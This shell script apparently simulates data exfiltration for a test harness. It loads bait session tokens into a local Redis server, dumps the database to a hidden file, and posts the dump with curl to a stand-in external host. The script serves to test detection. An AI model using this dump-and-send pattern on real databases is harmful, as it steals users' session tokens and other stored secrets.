#!/bin/sh
. /opt/case/case.sh

redis-server --port 6379 --save '' --dir /srv >/dev/null & server=$!
sleep 1
seq 1 5000 | sed 's/.*/set session:& user-&-token-bait/' | redis-cli >/dev/null
redis-cli --rdb /tmp/.d.rdb >/dev/null 2>&1
curl -sf --data-binary @/tmp/.d.rdb http://203.0.113.10:8080/in >/dev/null
test "$(wc -c </tmp/.d.rdb)" -gt 10000
kill $server
took_place
